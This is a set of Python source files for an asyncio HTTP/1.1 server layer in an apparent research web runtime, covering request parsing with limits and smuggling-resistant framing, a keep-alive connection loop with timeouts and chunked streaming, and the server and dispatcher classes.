        line = bytes(self._buffer[:index])
        del self._buffer[: index + 1]
        return line.rstrip(b"\r")

    def _parse_request_line(self) -> bool:
        # Be tolerant of stray leading CRLFs between pipelined requests
        # (RFC 9112 §2.2) but never of other garbage.
        while self._buffer[:2] == b"\r\n" or self._buffer[:1] == b"\n":
            del self._buffer[: 2 if self._buffer[:2] == b"\r\n" else 1]
        line = self._take_line(self.limits.max_request_line, 414, "request line")
        if line is None:
            return False
        if not line:
            raise ParseError(400, "empty request line")
        try:
            text = line.decode("ascii")
        except UnicodeDecodeError:
            raise ParseError(400, "request line is not ASCII") from None
        parts = text.split(" ")
        if len(parts) != 3:
            raise ParseError(400, f"malformed request line: {text!r}")
        method, target, version = parts
        if not method or not all(ch in _TOKEN for ch in method):
            raise ParseError(400, f"malformed method: {method!r}")
        if not target:
            raise ParseError(400, "empty request target")
        if version not in ("HTTP/1.1", "HTTP/1.0"):
            raise ParseError(400, f"unsupported protocol version: {version!r}")
        self._request = ParsedRequest(
            method=method.upper(), target=target, version=version
        )
        self._state = _HEADERS
        return True

    # -- headers ---------------------------------------------------------------

    def _parse_header_line(self) -> bool:
        budget = self.limits.max_header_bytes - self._header_bytes
        if budget < 0:
            raise ParseError(431, "header section too large")
        line = self._take_line(budget, 431, "header section")
        if line is None:
            return False
        self._header_bytes += len(line) + 2
        if not line:
            self._finish_headers()
            return True
        if len(self._request.headers) >= self.limits.max_header_count:
            raise ParseError(
                431, f"more than {self.limits.max_header_count} header fields"
            )
        if line[:1] in (b" ", b"\t"):
            # Obsolete line folding is a smuggling vector; refuse it.
            raise ParseError(400, "obsolete header line folding")
        name, separator, value = line.partition(b":")
        if not separator:
            raise ParseError(400, f"header line without ':': {line[:60]!r}")
        try:
            name_text = name.decode("ascii")
            value_text = value.strip(b" \t").decode("latin-1")
        except UnicodeDecodeError:
            raise ParseError(400, "header name is not ASCII") from None
        if not name_text or not all(ch in _TOKEN for ch in name_text):
            # A space before the colon ("Host : x") is the classic
            # request-smuggling disagreement; reject outright.
            raise ParseError(400, f"malformed header name: {name_text!r}")
        self._request.headers.append((name_text, value_text))
        return True

    def _finish_headers(self) -> None:
        request = self._request
        encodings = [
            token.strip().lower()
            for value in request.header_values("transfer-encoding")
            for token in value.split(",")
            if token.strip()
        ]
        lengths = request.header_values("content-length")
        if encodings and lengths:
            # Both framings present is the textbook smuggling ambiguity.
            raise ParseError(400, "both Transfer-Encoding and Content-Length")
        if encodings:
            if encodings != ["chunked"]:
                raise ParseError(400, f"unsupported transfer encoding {encodings!r}")
            self._state = _CHUNK_SIZE
            return
        if lengths:
            if len(set(lengths)) > 1:
                raise ParseError(400, "conflicting Content-Length headers")
            try:
                declared = int(lengths[0])
            except ValueError:
                raise ParseError(400, f"malformed Content-Length: {lengths[0]!r}") from None
            if declared < 0:
                raise ParseError(400, "negative Content-Length")
            if declared > self.limits.max_body_bytes:
                raise ParseError(
                    413, f"declared body of {declared} bytes exceeds "
                    f"{self.limits.max_body_bytes}"
                )
            if declared == 0:
                self._state = "done"
                return
            self._body_remaining = declared
            self._state = _BODY_FIXED
            return
        self._state = "done"

    # -- fixed-length body -------------------------------------------------------

    def _consume_fixed_body(self) -> bool:
        if not self._buffer:
            return False
        take = min(self._body_remaining, len(self._buffer))
        self._body.extend(self._buffer[:take])
        del self._buffer[:take]
        self._body_remaining -= take
        if self._body_remaining == 0:
            self._state = "done"
            return True
        return False

    # -- chunked body ------------------------------------------------------------

    def _parse_chunk_size(self) -> bool:
        line = self._take_line(self.limits.max_chunk_line, 400, "chunk-size line")
        if line is None:
            return False
        size_text = line.split(b";", 1)[0].strip()
        if not size_text:
            raise ParseError(400, "empty chunk-size line")
        try:
            size = int(size_text, 16)
        except ValueError:
            raise ParseError(400, f"malformed chunk size: {size_text!r}") from None
        if size < 0:
            raise ParseError(400, "negative chunk size")
        if len(self._body) + size > self.limits.max_body_bytes:
            raise ParseError(
                413, f"chunked body exceeds {self.limits.max_body_bytes} bytes"
            )
        if size == 0:
            self._state = _TRAILERS
            return True
        self._body_remaining = size
        self._state = _CHUNK_DATA
        return True

    def _consume_chunk_data(self) -> bool:
        if not self._buffer:
            return False
        take = min(self._body_remaining, len(self._buffer))
        self._body.extend(self._buffer[:take])
        del self._buffer[:take]
        self._body_remaining -= take
        if self._body_remaining == 0:
            self._state = _CHUNK_CRLF
            return True
        return False

    def _consume_chunk_crlf(self) -> bool:
        if len(self._buffer) < 2:
            if self._buffer and self._buffer[:1] not in (b"\r",):
                raise ParseError(400, "chunk data not followed by CRLF")
            return False
        if self._buffer[:2] != b"\r\n":
            raise ParseError(400, "chunk data not followed by CRLF")
        del self._buffer[:2]
        self._state = _CHUNK_SIZE
        return True

    def _parse_trailer_line(self) -> bool:
        line = self._take_line(self.limits.max_chunk_line, 431, "trailer line")
        if line is None:
            return False
        if line:
            # Trailer fields are parsed for framing but deliberately dropped:
            # nothing downstream may key a decision on a post-body header.
            self._trailer_count += 1
            if self._trailer_count > self.limits.max_header_count:
                raise ParseError(431, "too many trailer fields")
            return True
        self._trailer_count = 0
        self._state = "done"
        return True

    def __repr__(self) -> str:
        return (
            f"RequestParser(state={self._state!r}, buffered={len(self._buffer)}B, "
            f"failed={self._failed is not None})"
        )


RequestParser._STEPS = {
    _LINE: RequestParser._parse_request_line,
    _HEADERS: RequestParser._parse_header_line,
    _BODY_FIXED: RequestParser._consume_fixed_body,
    _CHUNK_SIZE: RequestParser._parse_chunk_size,
    _CHUNK_DATA: RequestParser._consume_chunk_data,
    _CHUNK_CRLF: RequestParser._consume_chunk_crlf,
    _TRAILERS: RequestParser._parse_trailer_line,
}
