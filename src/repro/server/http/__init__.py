"""The HTTP/1.1 socket server subsystem.

The real network boundary in front of
:class:`~repro.server.async_dispatcher.AsyncDispatcher`:

* :mod:`~repro.server.http.parser` — incremental request parsing with hard
  limits (400/413/431) and smuggling-hostile framing rules;
* :mod:`~repro.server.http.connection` — the keep-alive loop: pipelining,
  per-request read deadlines (slowloris → 408), write timeouts, chunked
  streaming with a taint check per emitted frame;
* :mod:`~repro.server.http.server` — :class:`HTTPServer` (bind / serve /
  drain on an event loop) and :class:`ServerHandle` (the same server on a
  background thread for synchronous callers).

The fluent entry points are :meth:`repro.runtime_api.Resin.serve` and
:meth:`~repro.runtime_api.Resin.serve_async`.
"""

from .parser import ParsedRequest, ParseError, ParserLimits, RequestParser
from .server import HTTPServer, ServerHandle

__all__ = [
    "HTTPServer",
    "ParsedRequest",
    "ParseError",
    "ParserLimits",
    "RequestParser",
    "ServerHandle",
]
