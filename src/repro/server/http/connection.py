"""One accepted socket: the keep-alive request/response loop.

A connection owns exactly one :class:`~repro.server.http.parser.RequestParser`
and serves requests strictly in arrival order (pipelined requests queue in
the parser's buffer and are answered in sequence, per RFC 9112 §9.3.2).
The loop embodies the server's robustness rules:

* **Backpressure** — the connection performs no socket read while a request
  is being dispatched: admission waits on the dispatcher's in-flight
  semaphore, and only after the response is on the wire does the loop go
  back to the socket.  A flood on one connection therefore queues in the
  kernel, not in the process.
* **Timeouts** — an *idle* keep-alive connection (nothing half-parsed) is
  closed quietly after ``idle_timeout``; a connection that has started a
  request gets one ``read_timeout`` budget for the whole request — a
  slowloris trickle of one byte per second exhausts the deadline and gets a
  408, never an open-ended read.  Writes that cannot drain within
  ``write_timeout`` abort the connection.
* **Streaming** — a response body deferred by the application
  (``channel.pending_stream``) is drained here: each piece crosses
  ``channel.write`` (the taint boundary) and becomes one chunked
  transfer-encoding frame.  Frames are batched in a connection-level
  output buffer that is flushed wherever the coroutine may suspend, so an
  async stream still delivers each frame before waiting for the next.  A
  policy violation mid-stream truncates the chunked body — the terminating
  frame is never sent, so the client knows the response is incomplete —
  and closes the connection.
"""

from __future__ import annotations

import asyncio
from http import HTTPStatus
from typing import List, Optional, Tuple

from ...core.exceptions import PolicyViolation
from ...core.request_context import RequestContext, stamp_request_id
from ...web.response import is_stream
from .parser import KNOWN_METHODS, ParsedRequest, ParseError, RequestParser

__all__ = ["HTTPConnection"]

_READ_SIZE = 65536
#: Buffered output beyond this is pushed to the transport even while a
#: synchronous stream is still producing, bounding memory per connection.
_FLUSH_THRESHOLD = 65536


def _reason(status: int) -> str:
    try:
        return HTTPStatus(status).phrase
    except ValueError:
        return "Unknown"


def _clean(value: object) -> str:
    """Header names/values must never carry CR/LF onto the wire, even if an
    application filter let them through — splitting stops here."""
    return str(value).replace("\r", "").replace("\n", "")


class _ClientGone(Exception):
    """The peer vanished mid-request; there is nobody to answer."""


class HTTPConnection:
    """Serves one accepted socket until close, error, or drain."""

    def __init__(
        self, server, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ):
        self.server = server
        self.reader = reader
        self.writer = writer
        self.parser = RequestParser(server.limits)
        peername = writer.get_extra_info("peername")
        self.remote_addr = peername[0] if peername else "?"
        #: True while a request is being dispatched or its response written;
        #: drain only force-closes connections that are *not* busy.
        self.busy = False
        self.requests_served = 0
        #: Outgoing bytes not yet handed to the transport.  Batching here
        #: turns a whole response (status line, headers, every body frame)
        #: into one transport write instead of one syscall per piece; the
        #: buffer is flushed at every point the coroutine may suspend, so a
        #: slow async stream still delivers each frame promptly.
        self._out = bytearray()

    # -- lifecycle ---------------------------------------------------------------

    async def serve(self) -> None:
        try:
            while True:
                parsed = await self._read_request()
                if parsed is None:
                    return
                self.busy = True
                try:
                    keep_alive = await self._serve_one(parsed)
                finally:
                    self.busy = False
                self.requests_served += 1
                if not keep_alive or self.server.draining:
                    return
        except ParseError as exc:
            await self._send_simple(exc.status, str(exc))
        except _ClientGone:
            pass
        except (ConnectionError, asyncio.TimeoutError, asyncio.IncompleteReadError):
            pass
        finally:
            await self._shutdown()

    async def _shutdown(self) -> None:
        try:
            await self._flush()
        except (ConnectionError, asyncio.TimeoutError, OSError, _ClientGone):
            pass
        try:
            self.writer.close()
            await self.writer.wait_closed()
        except (ConnectionError, OSError):
            pass

    def close_if_idle(self) -> None:
        """Drain support: force-close unless a request is in flight (a busy
        connection finishes its response first; the loop then exits because
        the server is draining)."""
        if not self.busy:
            transport = self.writer.transport
            if transport is not None:
                transport.abort()

    # -- reading -----------------------------------------------------------------

    async def _read_request(self) -> Optional[ParsedRequest]:
        """The next complete request off the socket, or ``None`` for a clean
        close (EOF or idle timeout between requests).

        The read deadline is per *request*, armed at its first byte: a
        client may keep an idle connection for ``idle_timeout``, but once a
        request line starts, the whole request must arrive within
        ``read_timeout`` — the slowloris counter-measure.
        """
        loop = asyncio.get_running_loop()
        deadline: Optional[float] = None
        while True:
            request = self.parser.next_request()
            if request is not None:
                return request
            # About to wait on the peer: everything buffered must be on the
            # wire first.  Pipelined requests skip this entirely (their
            # request is already parsed above), so a pipelined batch is
            # answered in one coalesced write.
            await self._flush()
            if self.parser.idle:
                timeout: float = self.server.idle_timeout
            else:
                if deadline is None:
                    deadline = loop.time() + self.server.read_timeout
                timeout = deadline - loop.time()
                if timeout <= 0:
                    await self._send_simple(408, "request read timed out")
                    return None
            try:
                data = await asyncio.wait_for(self.reader.read(_READ_SIZE), timeout)
            except asyncio.TimeoutError:
                if self.parser.idle:
                    return None
                await self._send_simple(408, "request read timed out")
                return None
            if not data:
                if self.parser.idle:
                    return None
                raise _ClientGone()
            self.parser.feed(data)

    # -- serving -----------------------------------------------------------------

    async def _serve_one(self, parsed: ParsedRequest) -> bool:
        keep_alive = parsed.keep_alive and not self.server.draining
        if parsed.method not in KNOWN_METHODS:
            await self._send_simple(
                501, f"method {parsed.method} not implemented", keep_alive=keep_alive
            )
            return keep_alive
        request = self.server.build_request(parsed, self.remote_addr)
        try:
            # The connection-level context outlives the dispatcher's own
            # (nested) binding so that deferred stream generators still see
            # the request's user and environment while they are drained.
            async with RequestContext(
                env=self.server.env,
                user=request.user,
                request=request,
                request_id=stamp_request_id(self.server.env, request),
            ):
                channel = await self.server.dispatcher.dispatch(request)
                return await self._write_response(parsed, channel, keep_alive)
        except PolicyViolation as exc:
            await self._send_simple(403, f"Forbidden: {exc}", keep_alive=keep_alive)
            return keep_alive
        except (ConnectionError, _ClientGone):
            raise
        except asyncio.CancelledError:
            raise
        except Exception:  # noqa: BLE001 - a handler bug must not kill the server
            await self._send_simple(500, "internal server error")
            return False

    # -- writing -----------------------------------------------------------------

    async def _write_response(
        self, parsed: ParsedRequest, channel, keep_alive: bool
    ) -> bool:
        head_only = parsed.method == "HEAD"
        pending = channel.pending_stream
        if pending is not None:
            return await self._write_streaming(parsed, channel, keep_alive, head_only)
        body = channel.body().encode("utf-8")
        headers = list(channel.headers)
        headers.append(("Content-Length", str(len(body))))
        self._start_response(channel.status, headers, parsed, keep_alive)
        if not head_only:
            self._out += body
        # No flush here: the serve loop flushes before it next waits on the
        # socket (or on shutdown), so pipelined responses coalesce.
        if len(self._out) >= _FLUSH_THRESHOLD:
            await self._flush()
        return keep_alive

    async def _write_streaming(
        self, parsed: ParsedRequest, channel, keep_alive: bool, head_only: bool
    ) -> bool:
        headers = list(channel.headers)
        headers.append(("Transfer-Encoding", "chunked"))
        self._start_response(channel.status, headers, parsed, keep_alive)
        if head_only:
            # Mirror the GET headers but move no data: the stream is never
            # drained, so nothing crosses the taint boundary either.
            self._out += b"0\r\n\r\n"
            await self._flush()
            return keep_alive
        # Eager chunks the handler wrote before streaming began.
        sent = self._buffer_new(channel, 0)
        try:
            for source in pending_sources(channel.pending_stream):
                if not is_stream(source):
                    channel.write(source)
                    sent = self._buffer_new(channel, sent)
                elif hasattr(source, "__aiter__"):
                    iterator = source.__aiter__()
                    while True:
                        # Flush before the await: frames already cleared
                        # must not sit buffered while the source suspends.
                        await self._flush()
                        try:
                            piece = await iterator.__anext__()
                        except StopAsyncIteration:
                            break
                        channel.write(piece)
                        sent = self._buffer_new(channel, sent)
                else:
                    for piece in source:
                        channel.write(piece)
                        sent = self._buffer_new(channel, sent)
                        if len(self._out) >= _FLUSH_THRESHOLD:
                            await self._flush()
        except PolicyViolation:
            # Headers are gone; the only honest move is to truncate the
            # chunked body (no terminating frame) and drop the connection.
            # Frames already buffered passed their own checks and still
            # leave; the disallowed piece never crossed channel.write.
            await self._flush()
            return False
        self._out += b"0\r\n\r\n"
        if len(self._out) >= _FLUSH_THRESHOLD:
            await self._flush()
        return keep_alive

    def _buffer_new(self, channel, sent: int) -> int:
        """Frame every chunk the channel delivered since index ``sent``."""
        for text in channel.chunks[sent:]:
            data = text.encode("utf-8") if isinstance(text, str) else bytes(text)
            if data:  # a zero-length frame would terminate the body
                # Size line, data and trailing CRLF in one buffer append.
                self._out += b"%x\r\n%s\r\n" % (len(data), data)
        return len(channel.chunks)

    def _start_response(
        self,
        status: int,
        headers: List[Tuple[str, str]],
        parsed: Optional[ParsedRequest],
        keep_alive: bool,
    ) -> None:
        lines = [f"HTTP/1.1 {int(status)} {_reason(int(status))}"]
        for name, value in headers:
            # One line per (name, value) pair: multi-value headers such as
            # Set-Cookie and Allow reach the wire as repeated lines.
            lines.append(f"{_clean(name)}: {_clean(value)}")
        if not keep_alive:
            lines.append("Connection: close")
        elif parsed is not None and parsed.version == "HTTP/1.0":
            lines.append("Connection: keep-alive")
        self._out += ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")

    async def _send_simple(
        self, status: int, text: str, keep_alive: bool = False
    ) -> None:
        """A minimal server-generated response (parse errors, timeouts,
        uncaught failures).  Fixed server text, so no taint boundary here."""
        try:
            body = (text + "\n").encode("utf-8")
            self._start_response(
                status,
                [
                    ("Content-Type", "text/plain; charset=utf-8"),
                    ("Content-Length", str(len(body))),
                ],
                None,
                keep_alive,
            )
            self._out += body
            await self._flush()
        except (ConnectionError, asyncio.TimeoutError, OSError):
            pass

    async def _flush(self) -> None:
        """Hand buffered output to the transport in one write.

        The timeout machinery (``wait_for`` spawns a task and a timer per
        call) is engaged only when the transport reports unsent backlog —
        the common case, an empty kernel-accepted buffer, costs one write.
        """
        if self._out:
            self.writer.write(bytes(self._out))
            del self._out[:]
        transport = self.writer.transport
        if transport is not None and transport.get_write_buffer_size() == 0:
            return
        await self._drain()

    async def _drain(self) -> None:
        try:
            await asyncio.wait_for(self.writer.drain(), self.server.write_timeout)
        except asyncio.TimeoutError:
            transport = self.writer.transport
            if transport is not None:
                transport.abort()
            raise _ClientGone() from None

    def __repr__(self) -> str:
        return (
            f"HTTPConnection({self.remote_addr}, served={self.requests_served}, "
            f"busy={self.busy})"
        )


def pending_sources(pending) -> List:
    """The body sources of a deferred streaming response, in order."""
    return list(pending.chunks)
