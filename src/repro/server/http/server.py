"""The asyncio HTTP/1.1 socket server in front of ``AsyncDispatcher``.

:class:`HTTPServer` is the network face of the runtime: it binds a real
listening socket, speaks HTTP/1.1 with keep-alive and pipelining (via
:class:`~repro.server.http.connection.HTTPConnection`), and funnels every
parsed request through the shared
:class:`~repro.server.async_dispatcher.AsyncDispatcher` — so the
dispatcher's bounded in-flight semaphore is the *same* backpressure that
stops a connection from being read while its request is queued.  Concurrent
connections are additionally bounded by ``max_connections`` (excess accepted
sockets wait unread) and by the listener's ``backlog``.

Graceful shutdown mirrors ``AsyncDispatcher.aclose()``: :meth:`aclose`
stops accepting, force-closes idle keep-alive connections, lets busy ones
finish the response they are writing (their loop then exits because the
server is draining), and finally closes the dispatcher it owns.

:class:`ServerHandle` runs the whole thing on a background thread for
synchronous callers (examples, benchmarks, the Table 4 harness)::

    with Resin(env).serve(app) as handle:        # ServerHandle
        http.client.HTTPConnection("127.0.0.1", handle.port) ...
"""

from __future__ import annotations

import asyncio
import threading
from typing import Optional, Set
from urllib.parse import parse_qsl

from ...web.request import Request
from .connection import HTTPConnection
from .parser import ParsedRequest, ParserLimits

__all__ = ["HTTPServer", "ServerHandle"]


class HTTPServer:
    """One listening socket serving a routed application.

    ``user_header`` (off by default) names a request header whose value is
    adopted as the authenticated user — for trusted harnesses only (the
    Table 4 socket front end, benchmarks); real deployments resolve the
    principal with a :class:`~repro.web.routing.SessionMiddleware` from the
    session cookie, exactly as the in-process front ends do.
    """

    def __init__(
        self,
        app,
        host: str = "127.0.0.1",
        port: int = 0,
        *,
        workers: int = 4,
        max_in_flight: Optional[int] = None,
        limits: Optional[ParserLimits] = None,
        idle_timeout: float = 30.0,
        read_timeout: float = 10.0,
        write_timeout: float = 10.0,
        max_connections: int = 128,
        backlog: int = 100,
        user_header: Optional[str] = None,
        resin=None,
        dispatcher=None,
    ):
        from ..async_dispatcher import AsyncDispatcher

        self.app = app
        self.env = app.env
        self.host = host
        self._requested_port = int(port)
        self.limits = limits or ParserLimits()
        self.idle_timeout = float(idle_timeout)
        self.read_timeout = float(read_timeout)
        self.write_timeout = float(write_timeout)
        self.max_connections = int(max_connections)
        self.backlog = int(backlog)
        self.user_header = user_header.lower() if user_header else None
        if dispatcher is not None:
            self.dispatcher = dispatcher
            self._owns_dispatcher = False
        else:
            self.dispatcher = AsyncDispatcher(
                app, workers=workers, max_in_flight=max_in_flight, resin=resin
            )
            self._owns_dispatcher = True
        self.draining = False
        self._server: Optional[asyncio.AbstractServer] = None
        self._conn_gate: Optional[asyncio.Semaphore] = None
        self._connections: Set[HTTPConnection] = set()
        self._conn_tasks: Set[asyncio.Task] = set()

    # -- lifecycle ---------------------------------------------------------------

    async def bind(self) -> "HTTPServer":
        """Bind the listening socket (port 0 picks a free port)."""
        if self._server is not None:
            raise RuntimeError("server is already bound")
        self._conn_gate = asyncio.Semaphore(self.max_connections)
        self._server = await asyncio.start_server(
            self._client_connected,
            self.host,
            self._requested_port,
            backlog=self.backlog,
        )
        return self

    @property
    def port(self) -> int:
        if self._server is None or not self._server.sockets:
            raise RuntimeError("server is not bound")
        return self._server.sockets[0].getsockname()[1]

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}"

    async def serve_forever(self) -> None:
        if self._server is None:
            await self.bind()
        await self._server.serve_forever()

    async def aclose(self) -> None:
        """Graceful drain: stop accepting, finish in-flight responses,
        close idle keep-alive connections, shut the owned dispatcher."""
        self.draining = True
        if self._server is not None:
            self._server.close()
            try:
                await self._server.wait_closed()
            except (asyncio.CancelledError, RuntimeError):  # pragma: no cover
                pass
        for connection in list(self._connections):
            connection.close_if_idle()
        if self._conn_tasks:
            await asyncio.gather(*list(self._conn_tasks), return_exceptions=True)
        if self._owns_dispatcher:
            await self.dispatcher.aclose()

    async def __aenter__(self) -> "HTTPServer":
        return await self.bind()

    async def __aexit__(self, exc_type, exc, tb) -> bool:
        await self.aclose()
        return False

    # -- connections -------------------------------------------------------------

    async def _client_connected(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        task = asyncio.current_task()
        if task is not None:
            self._conn_tasks.add(task)
            task.add_done_callback(self._conn_tasks.discard)
        async with self._conn_gate:
            if self.draining:
                writer.close()
                return
            connection = HTTPConnection(self, reader, writer)
            self._connections.add(connection)
            try:
                await connection.serve()
            finally:
                self._connections.discard(connection)

    # -- request construction ----------------------------------------------------

    def build_request(self, parsed: ParsedRequest, remote_addr: str) -> Request:
        """Translate one wire request into the application-level
        :class:`~repro.web.request.Request`.

        Query parameters and an ``application/x-www-form-urlencoded`` body
        land in ``params`` (form fields shadow query fields of the same
        name); other body types stay raw on ``request.body``.  The request
        is marked as stream-capable, so handlers returning generator bodies
        stream back as chunked transfer-encoding.
        """
        params = dict(parsed.query)
        body = parsed.body
        content_type = (parsed.header("content-type") or "").split(";")[0].strip()
        if body and content_type == "application/x-www-form-urlencoded":
            try:
                decoded = body.decode("utf-8")
            except UnicodeDecodeError as exc:
                from .parser import ParseError

                raise ParseError(400, "form body is not valid UTF-8") from exc
            params.update(parse_qsl(decoded, keep_blank_values=True))
        user = None
        if self.user_header is not None:
            user = parsed.header(self.user_header)
        request = Request(
            parsed.path,
            method=parsed.method,
            params=params,
            cookies=parsed.cookies,
            user=user,
            remote_addr=remote_addr,
        )
        request.body = body
        request.stream_consumer = True
        return request

    def __repr__(self) -> str:
        state = "draining" if self.draining else (
            "bound" if self._server is not None else "unbound")
        return (
            f"HTTPServer({getattr(self.app, 'name', self.app)!r}, "
            f"{self.host}:{self._requested_port or '?'}, {state}, "
            f"connections={len(self._connections)})"
        )


class ServerHandle:
    """A bound :class:`HTTPServer` running on its own event-loop thread.

    For synchronous callers: :meth:`start` returns once the socket is
    listening (raising whatever ``bind`` raised), :meth:`close` drains and
    joins.  Usable as a context manager; ``handle.port`` / ``handle.url``
    address the live socket.
    """

    def __init__(self, server: HTTPServer):
        self.server = server
        self._thread: Optional[threading.Thread] = None
        self._ready = threading.Event()
        self._loop: Optional[asyncio.AbstractEventLoop] = None
        self._stop: Optional[asyncio.Event] = None
        self._error: Optional[BaseException] = None
        self.port: Optional[int] = None

    @property
    def url(self) -> str:
        return f"http://{self.server.host}:{self.port}"

    def start(self) -> "ServerHandle":
        if self._thread is not None:
            raise RuntimeError("server handle already started")
        self._thread = threading.Thread(
            target=self._run, name="resin-http-serve", daemon=True
        )
        self._thread.start()
        self._ready.wait()
        if self._error is not None:
            self._thread.join()
            raise self._error
        return self

    def _run(self) -> None:
        try:
            asyncio.run(self._main())
        except BaseException as exc:  # pragma: no cover - surfaced via start()
            self._error = exc
        finally:
            self._ready.set()

    async def _main(self) -> None:
        self._loop = asyncio.get_running_loop()
        self._stop = asyncio.Event()
        try:
            await self.server.bind()
        except BaseException as exc:
            self._error = exc
            self._ready.set()
            return
        self.port = self.server.port
        self._ready.set()
        try:
            await self._stop.wait()
        finally:
            await self.server.aclose()

    def close(self) -> None:
        """Drain the server and join its thread.  Idempotent."""
        if self._thread is None:
            return
        if self._loop is not None and self._stop is not None:
            try:
                self._loop.call_soon_threadsafe(self._stop.set)
            except RuntimeError:  # loop already gone
                pass
        self._thread.join()
        self._thread = None

    def __enter__(self) -> "ServerHandle":
        return self

    def __exit__(self, exc_type, exc, tb) -> bool:
        self.close()
        return False

    def __repr__(self) -> str:
        alive = self._thread is not None and self._thread.is_alive()
        return f"ServerHandle(port={self.port}, alive={alive})"
