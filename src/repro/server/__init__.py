"""Concurrent request serving.

Two front ends over the same per-request machinery:

* :class:`~repro.server.dispatcher.Dispatcher` runs a
  :class:`~repro.web.app.WebApplication` on a thread pool;
* :class:`~repro.server.async_dispatcher.AsyncDispatcher` serves it from an
  asyncio event loop (bounded in-flight requests, cancellation, graceful
  shutdown), running handlers on an executor.

Both bind each request to its own
:class:`~repro.core.request_context.RequestContext` over the shared
environment.
"""

from .async_dispatcher import AsyncDispatcher
from .dispatcher import Dispatcher

__all__ = ["AsyncDispatcher", "Dispatcher"]
