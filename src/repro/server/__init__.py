"""Concurrent request serving.

Two front ends over the same per-request machinery:

* :class:`~repro.server.dispatcher.Dispatcher` runs a
  :class:`~repro.web.app.WebApplication` on a thread pool;
* :class:`~repro.server.async_dispatcher.AsyncDispatcher` serves it from an
  asyncio event loop (bounded in-flight requests, cancellation, graceful
  shutdown), running handlers on an executor.

Both bind each request to its own
:class:`~repro.core.request_context.RequestContext` over the shared
environment.  The :mod:`~repro.server.http` package puts a real HTTP/1.1
socket listener (:class:`~repro.server.http.HTTPServer`) in front of the
async dispatcher: keep-alive, pipelining, streaming chunked responses, and
connection-level backpressure tied to the dispatcher's in-flight semaphore.
"""

from .async_dispatcher import AsyncDispatcher
from .dispatcher import Dispatcher
from .http import HTTPServer, ServerHandle

__all__ = ["AsyncDispatcher", "Dispatcher", "HTTPServer", "ServerHandle"]
