"""Concurrent request serving.

:class:`~repro.server.dispatcher.Dispatcher` runs a
:class:`~repro.web.app.WebApplication` on a thread pool, binding each request
to its own :class:`~repro.core.request_context.RequestContext` over the
shared environment.
"""

from .dispatcher import Dispatcher

__all__ = ["Dispatcher"]
