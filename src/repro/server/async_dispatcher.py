"""The asyncio request dispatcher.

``AsyncDispatcher`` is the event-loop twin of
:class:`~repro.server.dispatcher.Dispatcher`: it serves a
:class:`~repro.web.app.WebApplication` from a shared
:class:`~repro.environment.Environment`, binding every request to its own
:class:`~repro.core.request_context.RequestContext`.  The execution
substrate is chosen **per route**:

* a request that resolves to an ``async def`` handler is served *natively*
  on the event loop — the dispatcher binds the ``RequestContext`` in the
  serving task's own :mod:`contextvars` context and awaits
  ``app.handle_async(request)`` directly, with no executor hop;
* everything else (sync handlers, static files, unrouted paths) runs on an
  executor thread via ``loop.run_in_executor`` inside a contextvars
  snapshot of the submitting task, exactly as before.

Either way the per-request state (user, HTTP channel, filesystem context,
database filter overlay) composes with asyncio tasks the same way it does
with worker threads.

What the event loop adds over the thread-pool front end:

* **Backpressure** — a bounded semaphore caps the number of requests in
  flight; submissions past the cap queue on the loop without consuming a
  thread.
* **Cancellation** — ``task.cancel()`` abandons a request.  A *native*
  ``async def`` handler is interrupted at its next suspension point and its
  ``RequestContext`` unwinds right there on the loop (the per-request
  database filter overlay pops with it); a sync handler already running
  completes on its executor thread and unwinds there; a request still
  queued on the semaphore never starts.
* **Graceful shutdown** — :meth:`aclose` stops accepting work, waits for
  (or cancels) the in-flight tasks, then releases the executor.

A :class:`~repro.core.exceptions.PolicyViolation` escaping one handler
surfaces only through that request's task::

    app = WebApplication(env)

    async def main():
        async with AsyncDispatcher(app, workers=16) as server:
            tasks = [server.submit(req) for req in requests]
            responses = await asyncio.gather(*tasks)
"""

from __future__ import annotations

import asyncio
import contextvars
from concurrent.futures import ThreadPoolExecutor
from typing import Iterable, List, Optional

from ..core.request_context import RequestContext, stamp_request_id
from ..web.request import Request

__all__ = ["AsyncDispatcher"]


class AsyncDispatcher:
    """Serves a :class:`~repro.web.app.WebApplication` on an asyncio loop.

    ``workers`` sizes the executor actually running handlers;
    ``max_in_flight`` bounds the number of admitted requests (defaults to
    ``2 * workers``, so a full pool plus one queued batch — raise it for
    I/O-heavy handlers, lower it to shed load earlier).  ``resin``
    (optional) is the shared facade requests derive their context from — by
    default a fresh :class:`~repro.runtime_api.Resin` over the application's
    own environment.

    One dispatcher serves one event loop at a time: the admission gate
    re-binds to the current loop whenever no requests are in flight, so
    repeated ``asyncio.run(...)`` calls against the same dispatcher work.
    """

    def __init__(
        self,
        app,
        workers: int = 4,
        max_in_flight: Optional[int] = None,
        resin=None,
    ):
        if int(workers) < 1:
            raise ValueError("workers must be >= 1")
        if max_in_flight is None:
            max_in_flight = 2 * int(workers)
        if int(max_in_flight) < 1:
            raise ValueError("max_in_flight must be >= 1")
        from ..runtime_api import Resin

        self.app = app
        self.resin = resin if resin is not None else Resin(app.env)
        self.workers = int(workers)
        self.max_in_flight = int(max_in_flight)
        self._executor = ThreadPoolExecutor(
            max_workers=self.workers, thread_name_prefix="resin-async"
        )
        self._loop: Optional[asyncio.AbstractEventLoop] = None
        self._semaphore: Optional[asyncio.Semaphore] = None
        self._in_flight: set = set()
        # Requests admitted through the semaphore right now — includes
        # direct dispatch() awaiters, which never appear in _in_flight.
        self._admitted = 0
        self._closed = False

    # -- dispatch ----------------------------------------------------------------

    async def dispatch(self, request: Request):
        """Serve ``request`` and return its response channel.

        Waits on the admission semaphore (the backpressure bound), then runs
        the handler on an executor thread inside a snapshot of the calling
        task's :class:`contextvars.Context`.  Raises whatever escaped the
        handler; cancelling the awaiting task abandons the request.
        """
        self._check_open()
        return await self._dispatch_admitted(request)

    async def _dispatch_admitted(self, request: Request):
        # No closed-check here: a request admitted by submit()/dispatch()
        # before shutdown began must still be served — that is what makes
        # aclose() a *drain* rather than an abort.
        gate = self._bind_loop()
        async with gate:
            self._admitted += 1
            try:
                if self._is_native_async(request):
                    # Loop-native path: the coroutine handler is awaited
                    # right here, inside this task's contextvars binding of
                    # the RequestContext — no executor hop, and cancelling
                    # the task unwinds context and overlays on the loop.
                    async with RequestContext(
                        env=self.resin.env,
                        user=request.user,
                        request=request,
                        request_id=stamp_request_id(self.resin.env, request),
                    ):
                        return await self.app.handle_async(request)
